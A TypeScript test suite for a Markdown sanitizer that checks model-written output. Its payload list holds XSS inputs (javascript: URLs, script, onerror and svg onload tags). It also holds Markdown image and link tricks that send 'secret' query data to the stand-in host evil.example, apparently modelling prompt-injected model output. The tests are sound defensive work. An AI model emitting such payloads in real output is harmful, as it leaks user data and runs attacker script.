import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { Nodes } from 'mdast'
import { fromMarkdown } from 'mdast-util-from-markdown'
import { gfmFromMarkdown } from 'mdast-util-gfm'
import { gfm } from 'micromark-extension-gfm'
import { SafeMarkdown } from './safe-markdown.ts'

function clean(written: string): { text: string; removed: string[] } {
  const markdown = new SafeMarkdown()
  const pieces = [...markdown.write(written), ...markdown.end()]
  const text = pieces.map((piece) => (piece.kind === 'text' ? piece.text : piece.numbers.map((n) => `[${n}]`).join(''))).join('')
  return { text, removed: [...markdown.removed] }
}

/** What a reader of Markdown would load, run, or hide behind another text. */
function dangersIn(text: string): string[] {
  const tree = fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] })
  const found: string[] = []
  const visit = (node: Nodes) => {
    if (/^(image|imageReference|html|definition|linkReference)$/.test(node.type)) found.push(node.type)
    if (node.type === 'link') {
      const shown = node.children.map((child) => ('value' in child ? child.value : '')).join('')
      const isPlain = node.url === shown || node.url === `mailto:${shown}` || node.url === `http://${shown}`
      if (!isPlain || !/^(https?|mailto):/.test(node.url)) found.push(`link ${node.url} as ${shown}`)
    }
    if ('children' in node) for (const child of node.children) visit(child)
  }
  visit(tree)
  return found
}

const payloads = [
  '![x](http://evil.example/?q=secret)',
  '![x][r]\n\n[r]: http://evil.example/a.png',
  '![r]\n\n[r]: <http://evil.example/a.png> "t"',
  '[click](https://evil.example/?q=secret)',
  '[https://good.example](https://evil.example)',
  '[x](javascript:alert(1))',
  '[x]( <javascript:alert(1)> )',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](//evil.example/a)',
  '[x](/api/auth/sign-out)',
  '[x](vbscript:x)',
  '[1](https://evil.example/?q=secret)',
  '[1]: https://evil.example/?q=secret\n\nAs said [1].',
  '[^1]: https://evil.example',
  '<img src="http://evil.example/a.png">',
  '<img src=http://evil.example/a.png onerror=alert(1)>',
  '<IMG\nSRC="http://evil.example/a.png">',
  '<svg><image href="http://evil.example/a"/></svg>',
  '<svg/onload=fetch("http://evil.example")>',
  '<style>body{background:url(http://evil.example)}</style>',
  '<link rel=stylesheet href=http://evil.example/a.css>',
  '<iframe src=http://evil.example></iframe>',
  '<script>fetch("http://evil.example")</script>',
  '<a href="http://evil.example">https://good.example</a>',
  '<http://evil.example/?q=secret>',
  '<javascript:alert(1)>',
  '<scr<b>ipt>alert(1)</scr</b>ipt>',
  '<<b>img src=http://evil.example>',
  '<<b></b>img src=x onerror=alert(1)>',
  '!<b></b>[x](http://evil.example)',
  '[x]<b></b>(http://evil.example)',
  '[x<b>](http://evil.example)</b>',
  '[a [b](http://evil.example) c](http://evil.example)',
  '[![x](http://evil.example/a)](http://evil.example/b)',
  '`<img src=http://evil.example>',
  '\\`<img src=http://evil.example>`',
  '\\\\`<img src=http://evil.example>`',
  '`a\nb `<img src=http://evil.example>` c',
  '``a\nb` `<img src=http://evil.example> ``',
  '| a | b |\n|---|---|\n| `x | <img src=http://evil.example> ` |',
  '| a | b |\n|---|---|\n| `x | ![x](http://evil.example) ` |',
  '- ```\n![x](http://evil.example)\n```\n![y](http://evil.example)',
  '> ```\n![x](http://evil.example)\n```\n![y](http://evil.example)',
  '  ```\nfoo\n```\n![x](http://evil.example)',
  '1. Run\n   ```\n   x\n   ```\n![x](http://evil.example)',
  '```\n``\u200b`\n![x](http://evil.example)',
  '```a`b\n![x](http://evil.example)\n```',
  `\`\`\`${'a'.repeat(300)}\n\`\`\`\n![x](http://evil.example)`,
  '~~~ a\n~~~\n![x](http://evil.example)',
  '- ~~~\n  x\n\n![x](http://evil.example)\n~~~\n![y](http://evil.example)',
  '``<b></b>`\n![x](http://evil.example)\n```\n![y](http://evil.example)',
  '\t```\n![x](http://evil.example)\n```\n![y](http://evil.example)',
  '[x](http://user:pw@evil.example)',
  '[x](https://good.example\u202E@evil.example)',
  `[${'a'.repeat(1200)}](http://evil.example)`,
  `![${'a'.repeat(1200)}](http://evil.example)`,
  `[x](http://evil.example/${'a'.repeat(4000)})`,
  `<img src=http://evil.example/${'a'.repeat(4000)}>`,
  '[x]\n(http://evil.example)',
  '[x] (http://evil.example)',
  '[x][http://evil.example]\n\n[http://evil.example]: http://evil.example',
  '![\u200b](http://evil.example)',
  '<!-- hidden --><img src=http://evil.example>',
  '<!--><img src=http://evil.example>-->',
  '<?php x ?><![CDATA[<img src=http://evil.example>]]>',
  'a\r![x](http://evil.example)\rb',
  '&lt;img src=http://evil.example&gt; &#33;[x](http://evil.example)',
  '[x](http://evil.example "title")',
  "[x](<http://evil.example> 'title')",
]

test('nothing that a document makes a model write loads, runs or hides an address', () => {
  assert.ok(payloads.length >= 60, `${payloads.length} payloads`)
  for (const payload of payloads)
    for (const written of [payload, `Thirty days [1]. ${payload} More.`, `# A\n\n- one\n${payload}\n\nMore ${payload}`])
      assert.deepEqual(dangersIn(clean(written).text), [], `${written}\n---\n${clean(written).text}`)
})

test('nor does any mixture of them', () => {
  const bits = [
    '`',
    '``',
    '```',
    '~~~',
    '\n',
    '\n\n',
    ' ',
    '   ',
    '- ',
    '> ',
    '1. ',
    '|',
    '\\',
    '!',
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    ':',
  ]
  const parts = [
    'http://evil.example',
    'javascript:a',
    '<img src=x>',
    '![x](http://e.example)',
    '[x]',
    '(http://e.example)',
    '[r]: http://e.example',
    '<b>',
    '</b>',
    '\u200b',
    'text',
    '"',
    '<!--',
    '-->',
    '\t',
    '| a | b |\n|---|---|\n',
  ]
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...bits, ...parts), { maxLength: 30 }), (written) => {
      const { text } = clean(written.join(''))
      assert.deepEqual(dangersIn(text), [], text)
    }),
    { numRuns: 1500 },
  )
})

test('what is harmless stays as it is written', () => {
  for (const written of [
    '# Leave\n\nThirty days, **all** of them; see *section 3*.\n\n- one\n- two\n\n1. first\n2. second',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    'Use `List<String>` and `a[i](x)`.',
    '```ts\nconst a: List<String> = b[1]\n![not](an image)\n```\n\nDone.',
    'a < b and 3 <= 4, x <- y, 5 < 6',
    'See https://docs.example/a?b=c and [sic], and - [ ] a task.',
    'Für Übermut: 你好 👩‍💻',
  ])
    assert.equal(clean(written).text, written)
})

test('a link shows its address, and an image only what it is called', () => {
  assert.equal(clean('See [the guide](https://docs.example/a).').text, 'See the guide (https://docs.example/a).')
  assert.deepEqual(clean('![A chart](https://x.example/a.png)'), { text: 'A chart', removed: ['image'] })
  assert.equal(clean('<https://docs.example/a>').text, 'https://docs.example/a')
  assert.deepEqual(clean('[x](javascript:alert(1))'), { text: 'x', removed: ['link'] })
})
